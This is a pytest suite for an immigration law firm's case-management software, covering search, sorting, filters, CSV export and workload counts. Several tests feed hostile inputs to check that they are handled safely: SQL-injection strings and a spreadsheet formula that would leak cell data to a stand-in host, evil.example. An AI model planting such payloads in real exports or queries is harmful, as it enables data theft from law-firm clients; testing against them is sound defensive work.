import csv
import io
from dataclasses import replace
from datetime import timedelta
from typing import NamedTuple
from urllib.parse import parse_qsl

import pytest
import sqlalchemy as sa
from sqlmodel import select

from immigration_app import catalog
from immigration_app.models import (
    Case,
    CaseEvent,
    CaseMember,
    OtherName,
    Person,
    Reminder,
    utcnow,
)
from immigration_app.pages import dashboard as dashboard_page
from immigration_app.services.case_list import (
    PAGE_SIZE,
    SORT_COLUMNS,
    CaseQuery,
    export_cases_csv,
    my_work,
    search_cases,
    workload,
)
from immigration_app.services.cases import (
    MemberInput,
    add_receipt_number,
    assign_case,
    open_case,
)
from immigration_app.services.deadlines import add_deadline
from immigration_app.services.firm import firm_clock
from immigration_app.services.people import (
    PersonInput,
    create_person,
    likely_duplicates,
    refresh_name_keys,
    search_people,
    update_person,
)
from immigration_app.services.reminders import messages_for_due
from immigration_app.services.viewer import Viewer
from tests.factories import make_case, make_viewer


def _references(session, viewer, **query) -> list[str]:
    page = search_cases(session, viewer=viewer, query=CaseQuery(**query))
    return [row.reference for row in page.rows]


class Firm(NamedTuple):
    attorney: Viewer
    paralegal: Viewer
    other: Viewer
    lopez: Case
    nguyen: Case
    okafor: Case


@pytest.fixture
def firm(session) -> Firm:
    """An attorney, two paralegals and three cases with different facts."""
    attorney = make_viewer(session, role="attorney")
    paralegal = make_viewer(session, role="paralegal")
    other = make_viewer(session, role="paralegal")
    lopez = make_case(
        session, actor=attorney, family_name="López García", paralegal_id=paralegal.id
    )
    nguyen = make_case(session, actor=attorney, family_name="Nguyen", case_type="h1b")
    okafor = make_case(session, actor=attorney, family_name="Okafor", paralegal_id=other.id)
    return Firm(attorney, paralegal, other, lopez, nguyen, okafor)


def test_name_search_ignores_accents_and_case_and_matches_word_starts(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    assert _references(session, attorney, search="lopez") == [lopez.reference]
    assert _references(session, attorney, search="GARC lóp") == [lopez.reference]
    assert _references(session, attorney, search="maria ngu") == [nguyen.reference]
    assert _references(session, attorney, search="opez") == []  # word starts only


def test_search_finds_other_names_used(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    person_id = session.exec(
        select(CaseMember.person_id).where(CaseMember.case_id == okafor.id)
    ).one()
    session.add(OtherName(person_id=person_id, family_name="Adeyemi"))
    session.flush()
    refresh_name_keys(session, person_id)
    assert _references(session, attorney, search="adeyemi") == [okafor.reference]


def test_search_by_a_number_receipt_number_and_reference(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    with_a_number = open_case(
        session,
        actor=attorney,
        case_type="tps",
        members=[
            MemberInput("applicant", new_person=PersonInput("Diaz", "Eva", a_number="A098765432"))
        ],
    )
    add_receipt_number(
        session, actor=attorney, reference=nguyen.reference, receipt_number="WAC2612345678"
    )
    assert _references(session, attorney, search="A098765432") == [with_a_number.reference]
    assert _references(session, attorney, search="98765432") == [with_a_number.reference]
    assert _references(session, attorney, search="wac-26-123-45678") == [nguyen.reference]
    assert _references(session, attorney, search="WAC261") == [nguyen.reference]
    assert _references(session, attorney, search=okafor.reference) == [okafor.reference]


@pytest.mark.parametrize(
    "hostile",
    ['"quoted"', "%", "_", "100%_", "a' OR 1=1 --", "x" * 5000, "\\", "\x00", "  ", "😀 🤷"],
)
def test_odd_search_text_gives_a_sensible_result_not_an_error(session, firm, hostile):
    attorney = firm.attorney
    page = search_cases(session, viewer=attorney, query=CaseQuery.from_params({"q": hostile}))
    everything = hostile.strip() == ""
    assert page.total == (3 if everything else 0)


def test_filters_combine_and_paralegals_see_only_their_cases(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    assert set(_references(session, paralegal)) == {lopez.reference, nguyen.reference}
    assert set(_references(session, other)) == {nguyen.reference, okafor.reference}
    assert _references(session, attorney, case_type="h1b") == [nguyen.reference]
    assert _references(session, attorney, assignee=paralegal.id) == [lopez.reference]
    assert _references(session, paralegal, search="okafor") == []  # not theirs: not found
    assign_case(
        session, actor=attorney, reference=okafor.reference, attorney_id=None, paralegal_id=None
    )
    assert okafor.reference in _references(session, paralegal, search="okafor")


def test_deadline_filters_overdue_and_days_left(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    today = firm_clock(session).today()
    add_deadline(
        session, actor=attorney, case_id=lopez.id, title="RFE", due_on=today - timedelta(days=2)
    )
    add_deadline(
        session, actor=attorney, case_id=nguyen.id, title="Bio", due_on=today + timedelta(days=5)
    )
    add_deadline(
        session, actor=attorney, case_id=okafor.id, title="N-400", due_on=today + timedelta(days=25)
    )
    assert _references(session, attorney, show="overdue") == [lopez.reference]
    assert _references(session, attorney, show="due_7") == [nguyen.reference]
    assert set(_references(session, attorney, show="due_30")) == {
        nguyen.reference,
        okafor.reference,
    }
    rows = search_cases(
        session, viewer=attorney, query=CaseQuery(sort="next_deadline", descending=False)
    ).rows
    assert [row.reference for row in rows] == [lopez.reference, nguyen.reference, okafor.reference]
    assert (rows[0].overdue, rows[0].days_left) == (True, "2 days overdue")
    assert (rows[1].overdue, rows[1].days_left) == (False, "in 5 days")


def test_stage_filters_for_waiting_on_client_and_review(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    lopez.stage, nguyen.stage = "collecting_documents", "internal_review"
    session.add_all([lopez, nguyen])
    session.flush()
    assert _references(session, attorney, show="waiting_on_client") == [lopez.reference]
    assert _references(session, attorney, show="awaiting_review") == [nguyen.reference]
    assert _references(session, attorney, stage="internal_review") == [nguyen.reference]


def test_sorting_by_client_both_ways(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    ascending = [lopez.reference, nguyen.reference, okafor.reference]
    assert _references(session, attorney, sort="client", descending=False) == ascending
    assert _references(session, attorney, sort="client", descending=True) == ascending[::-1]


def test_references_go_past_9999_in_a_year_and_are_found_and_sorted(session):
    attorney = make_viewer(session, role="attorney")
    year = firm_clock(session).today().year
    last_short = make_case(session, actor=attorney, family_name="Short")
    last_short.reference = f"{year}-9999"
    session.add(last_short)
    session.flush()
    longer = [make_case(session, actor=attorney, family_name=f"Long{n}") for n in range(2)]
    assert [case.reference for case in longer] == [f"{year}-10000", f"{year}-10001"]
    assert _references(session, attorney, search=f"{year}-10000") == [f"{year}-10000"]
    assert set(_references(session, attorney, search=f"{year}-1000")) == {
        f"{year}-10000",
        f"{year}-10001",
    }
    assert _references(session, attorney, sort="reference", descending=False) == [
        f"{year}-9999",
        f"{year}-10000",
        f"{year}-10001",
    ]


def test_case_types_sort_by_the_title_shown(session):
    attorney = make_viewer(session, role="attorney")
    for case_type in ("aos-marriage", "k1-fiance", "consular-family", "h1b"):
        make_case(session, actor=attorney, case_type=case_type)
    rows = search_cases(
        session, viewer=attorney, query=CaseQuery(sort="case_type", descending=False)
    ).rows
    titles = [row.case_type for row in rows]
    assert titles == sorted(titles, key=str.casefold)
    assert titles[0].startswith("Consular") and titles[-1].startswith("Marriage")


def test_clients_sort_by_name_whatever_their_accents_and_case(session):
    attorney = make_viewer(session, role="attorney")
    for family in ("Zapata", "Ávila", "ñandú", "Oduya", "Ábalos"):
        make_case(session, actor=attorney, family_name=family)
    rows = search_cases(session, viewer=attorney, query=CaseQuery(sort="client", descending=False))
    assert [row.client.split()[-1] for row in rows.rows] == [
        "Ábalos",
        "Ávila",
        "ñandú",
        "Oduya",
        "Zapata",
    ]


def test_a_renamed_client_sorts_under_the_new_name(session):
    attorney = make_viewer(session, role="attorney")
    first, second = (make_case(session, actor=attorney, family_name=n) for n in ("Baker", "Cole"))
    person = session.get(
        Person,
        session.exec(select(CaseMember.person_id).where(CaseMember.case_id == second.id)).one(),
    )
    update_person(
        session,
        actor=attorney,
        person=person,
        data=replace(PersonInput.of(session, person), family_name="Álvarez"),
    )
    assert _references(session, attorney, sort="client", descending=False) == [
        second.reference,
        first.reference,
    ]


def test_cases_sort_by_how_many_documents_are_missing(session):
    attorney = make_viewer(session, role="attorney")
    natz = make_case(session, actor=attorney, family_name="Natz")  # one required item missing
    visa = make_case(session, actor=attorney, case_type="k1-fiance", family_name="Fiance")
    none = make_case(session, actor=attorney, case_type="itin-w7", family_name="Itin")
    missing = {
        row.reference: row.missing_docs
        for row in search_cases(session, viewer=attorney, query=CaseQuery()).rows
    }
    assert missing[natz.reference] < missing[visa.reference]
    by_most = _references(session, attorney, sort="missing_docs", descending=True)
    assert [missing[reference] for reference in by_most] == sorted(missing.values(), reverse=True)
    assert _references(session, attorney, sort="missing_docs", descending=False) == by_most[::-1]
    assert none.reference in by_most


@pytest.mark.parametrize("column", SORT_COLUMNS)
def test_every_column_header_sorts_both_ways(session, firm, column):
    attorney = firm.attorney
    for descending in (False, True):
        page = search_cases(
            session, viewer=attorney, query=CaseQuery(sort=column, descending=descending)
        )
        assert page.total == len(page.rows) == 3
    assert column in {key for key, _ in dashboard_page._COLUMNS}


def test_pages_hold_fifty_and_report_the_total(session):
    attorney = make_viewer(session, role="attorney")
    for number in range(PAGE_SIZE + 3):
        make_case(session, actor=attorney, family_name=f"Family{number}")
    first = search_cases(session, viewer=attorney, query=CaseQuery())
    last = search_cases(session, viewer=attorney, query=CaseQuery(page=2))
    beyond = search_cases(session, viewer=attorney, query=CaseQuery(page=99))
    assert (len(first.rows), first.total, first.page_count) == (PAGE_SIZE, PAGE_SIZE + 3, 2)
    assert len(last.rows) == 3
    assert not {row.reference for row in first.rows} & {row.reference for row in last.rows}
    assert beyond.page == 2  # past the end: the last page, not an empty one


def test_url_parameters_round_trip_and_unknown_values_are_ignored():
    query = CaseQuery.from_params(
        {
            "q": "garcia",
            "stage": "intake",
            "type": "h1b",
            "assignee": "7",
            "show": "overdue",
            "sort": "client",
            "dir": "asc",
            "page": "3",
            "mine": "1",
        }
    )
    assert CaseQuery.from_params(query.to_params()) == query
    # The search box reads `q` back: a space typed before the next word stays; blanks go.
    assert CaseQuery.from_params({"q": "perez "}).to_params() == {"q": "perez "}
    assert CaseQuery.from_params({"q": "   "}).to_params() == {}
    junk = CaseQuery.from_params(
        {
            "stage": "nope",
            "type": "'; drop",
            "assignee": "x",
            "show": "everything",
            "sort": "password",
            "dir": "sideways",
            "page": "-4",
            "mine": "yes",
        }
    )
    assert junk == CaseQuery()
    assert CaseQuery.from_params({"page": "9" * 50}).page == 1
    # Digits int() refuses ("²", Arabic-Indic, full-width), and numbers too big for a page or
    # for PostgreSQL's integer ids, are ignored like any other junk.
    for odd in ("²", "\u0663", "\uff13", "1²", "9" * 10_000, "2147483648", " 7", "+7"):
        assert CaseQuery.from_params({"page": odd, "assignee": odd}) == CaseQuery(), odd
    assert CaseQuery.from_params({"assignee": "2147483647"}).assignee == 2**31 - 1


@pytest.mark.parametrize("odd", ["²", "9" * 10_000, "2147483648"])
def test_odd_numbers_in_the_url_list_cases_instead_of_failing(session, firm, odd):
    query = CaseQuery.from_params({"page": odd, "assignee": odd})
    page = search_cases(session, viewer=firm.attorney, query=query)
    assert (page.page, page.total) == (1, 3)


def test_csv_export_has_every_matching_row_and_is_on_record(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    text = "".join(export_cases_csv(session, viewer=attorney, query=CaseQuery(search="lopez")))
    lines = text.strip().splitlines()
    assert lines[0].startswith("Reference,Client,Case type")
    assert len(lines) == 2 and "López García" in lines[1]
    assert session.exec(select(CaseEvent).where(CaseEvent.kind == "cases_exported")).one()
    # The same figures as the table on the page, missing documents included.
    [exported] = csv.DictReader(lines)
    [shown] = search_cases(session, viewer=attorney, query=CaseQuery(search="lopez")).rows
    assert shown.missing_docs > 0
    assert exported["Missing documents"] == str(shown.missing_docs)


def test_csv_export_keeps_a_formula_typed_as_a_name_from_running(session):
    attorney = make_viewer(session, role="attorney")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    open_case(
        session,
        actor=attorney,
        case_type="tps",
        members=[MemberInput("applicant", new_person=PersonInput("Diaz", formula))],
    )
    text = "".join(export_cases_csv(session, viewer=attorney, query=CaseQuery()))
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert row[header.index("Client")] == "'" + formula + " Diaz"


def test_my_work_counts_only_my_cases_and_links_to_the_view(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    today = firm_clock(session).today()
    add_deadline(
        session, actor=attorney, case_id=lopez.id, title="RFE", due_on=today - timedelta(days=1)
    )
    add_deadline(
        session, actor=attorney, case_id=nguyen.id, title="RFE", due_on=today - timedelta(days=1)
    )
    items = {item.label: item for item in my_work(session, viewer=paralegal)}
    overdue = items["Overdue deadlines"]
    assert overdue.count == 1  # nguyen is unassigned, so not the paralegal's work
    assert overdue.urgent
    assert overdue.href == "/?mine=1&show=overdue"


def test_each_my_work_figure_is_the_total_of_the_view_it_links_to(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    today = firm_clock(session).today()
    more = [make_case(session, actor=attorney, family_name=f"Extra{n}") for n in range(4)]
    for case_id, days in [
        (lopez.id, -2),
        (nguyen.id, 3),
        (okafor.id, 20),
        (more[0].id, -1),
        (more[1].id, 6),
        (more[2].id, 45),
    ]:
        add_deadline(
            session, actor=attorney, case_id=case_id, title="RFE", due_on=today + timedelta(days)
        )
    more[3].stage = catalog.stages_waiting_on("client")[0]
    more[2].stage = catalog.stages_waiting_on("review")[0]
    for case in (lopez, nguyen, *more):  # the attorney's own; okafor stays unassigned to them
        case.attorney_id = attorney.id
    session.add_all([lopez, nguyen, *more])
    session.flush()
    for viewer in (attorney, paralegal, other):
        items = [item for item in my_work(session, viewer=viewer) if item.href.startswith("/?")]
        assert len(items) == 5
        for item in items:
            params = dict(parse_qsl(item.href[2:]))
            listed = search_cases(session, viewer=viewer, query=CaseQuery.from_params(params))
            assert item.cases == listed.total, item.label
    counts = {item.label: item.count for item in my_work(session, viewer=attorney)}
    assert counts["Overdue deadlines"] == 2
    assert counts["Deadlines in the next 7 days"] == 2  # nguyen (3 days), more[1] (6 days)
    assert counts["Deadlines in the next 30 days"] == 2  # okafor (20 days) is not the attorney's
    assert counts["Waiting on the client"] == 1
    assert counts["Awaiting your review"] == 0  # in review, but no packet waits for a decision


def test_my_work_counts_every_open_deadline_due_not_only_each_cases_earliest(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    today = firm_clock(session).today()
    for days in (-3, 3, 4, 20):  # lopez: one overdue, two this week, one this month
        add_deadline(
            session, actor=attorney, case_id=lopez.id, title="RFE", due_on=today + timedelta(days)
        )
    add_deadline(session, actor=attorney, case_id=nguyen.id, title="Bio", due_on=today)
    for case in (lopez, nguyen):
        case.attorney_id = attorney.id
    session.add_all([lopez, nguyen])
    session.flush()
    items = {item.label: item for item in my_work(session, viewer=attorney)}
    assert (items["Overdue deadlines"].count, items["Overdue deadlines"].cases) == (1, 1)
    week = items["Deadlines in the next 7 days"]
    assert (week.count, week.cases, week.detail) == (3, 2, "on 2 cases")
    month = items["Deadlines in the next 30 days"]
    assert (month.count, month.cases) == (4, 2)
    assert set(_references(session, attorney, mine=True, show="due_7")) == {
        lopez.reference,
        nguyen.reference,
    }
    # The workload chart counts the same deadlines.
    by_name = {entry.name: entry for entry in workload(session, viewer=attorney)}
    assert by_name[attorney.full_name].deadlines_this_week == week.count


def test_my_work_counts_the_reminders_sent_to_me_this_week(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    add_deadline(
        session,
        actor=attorney,
        case_id=lopez.id,
        title="RFE",
        due_on=firm_clock(session).today() + timedelta(days=3),
    )
    session.exec(
        sa.update(Reminder)
        .where(Reminder.deadline_id.is_not(None))
        .values(due_at=utcnow() - timedelta(minutes=1))
    )
    messages_for_due(session, utcnow(), limit=100)  # the 1-day and overdue reminders
    session.flush()
    items = {item.label: item for item in my_work(session, viewer=paralegal)}
    reminded = items["Reminders to you, 7 days"]
    assert (reminded.count, reminded.href) == (2, "/outbox?mine=1")
    assert {i.label: i for i in my_work(session, viewer=other)}[
        "Reminders to you, 7 days"
    ].count == 0


def test_workload_counts_open_cases_and_this_weeks_deadlines_per_person(session, firm):
    attorney, paralegal, other, lopez, nguyen, okafor = firm
    add_deadline(
        session, actor=attorney, case_id=lopez.id, title="Bio", due_on=firm_clock(session).today()
    )
    by_name = {entry.name: entry for entry in workload(session, viewer=attorney)}
    assert by_name[paralegal.full_name].open_cases == 1
    assert by_name[paralegal.full_name].deadlines_this_week == 1
    assert by_name[other.full_name].deadlines_this_week == 0
    assert by_name[attorney.full_name].open_cases == 0  # make_case assigns no attorney
    # A case with both an attorney and a paralegal counts for each of them.
    for case in (lopez, okafor):
        case.attorney_id = attorney.id
        session.add(case)
    session.flush()
    by_name = {entry.name: entry for entry in workload(session, viewer=attorney)}
    assert (by_name[attorney.full_name].open_cases, by_name[paralegal.full_name].open_cases) == (
        2,
        1,
    )
    assert by_name[other.full_name].open_cases == 1
    assert by_name[attorney.full_name].deadlines_this_week == 1
    assert by_name[paralegal.full_name].deadlines_this_week == 1
    # A paralegal's chart counts only the cases they may see.
    mine = {entry.name: entry for entry in workload(session, viewer=paralegal)}
    assert mine[attorney.full_name].open_cases == 1  # lopez; okafor is the other paralegal's


def test_people_search_and_duplicate_warning(session):
    attorney = make_viewer(session, role="attorney")
    create_person(
        session, PersonInput("Gómez", "Rosa", date_of_birth="1985-06-01", a_number="A11111111")
    )
    assert [m.name for m in search_people(session, viewer=attorney, text="gomez ros")] == [
        "Rosa Gómez"
    ]
    assert search_people(session, viewer=attorney, text="1985-06-01")[0].name == "Rosa Gómez"
    assert search_people(session, viewer=attorney, text="A011111111")[0].a_number == "A011111111"

    def duplicates(data: PersonInput, viewer: Viewer = attorney):
        return likely_duplicates(session, viewer=viewer, data=data)

    same_name = duplicates(PersonInput("GOMEZ", "rosa", date_of_birth="1985-06-01"))
    same_a_number = duplicates(PersonInput("Other", "Person", a_number="11111111"))
    assert [m.reason for m in same_name] == ["same name and date of birth"]
    assert [m.reason for m in same_a_number] == ["same A-number"]
    assert duplicates(PersonInput("Gomez", "Rosa", date_of_birth="1985-06-02")) == []


def test_a_duplicate_on_a_case_the_paralegal_cannot_open_is_reported_without_details(session, firm):
    # Okafor's client (María Okafor, 1980-05-17) is on the other paralegal's case.
    entered = PersonInput("Okafor", "Maria", date_of_birth="1980-05-17")
    [hidden] = likely_duplicates(session, viewer=firm.paralegal, data=entered)
    assert (hidden.id, hidden.date_of_birth, hidden.a_number) == (0, "", "")
    assert "Okafor" not in hidden.name
    assert hidden.reason.startswith("same name and date of birth")
    [shown] = likely_duplicates(session, viewer=firm.other, data=entered)
    assert shown.id > 0 and shown.name == "Maria Okafor"
    # López García is on the paralegal's own case: shown in full.
    own = PersonInput("López García", "Maria", date_of_birth="1980-05-17")
    assert likely_duplicates(session, viewer=firm.paralegal, data=own)[0].id > 0


def test_each_row_shows_how_many_required_documents_are_missing(session):
    attorney = make_viewer(session, role="attorney")
    natz = make_case(session, actor=attorney, family_name="Natz")  # N-400: green card required
    daca = make_case(session, actor=attorney, case_type="daca-renewal", family_name="Dreamer")
    rows = {
        row.reference: row for row in search_cases(session, viewer=attorney, query=CaseQuery()).rows
    }
    assert rows[natz.reference].missing_docs == 1
    assert rows[daca.reference].missing_docs == 1  # the current EAD
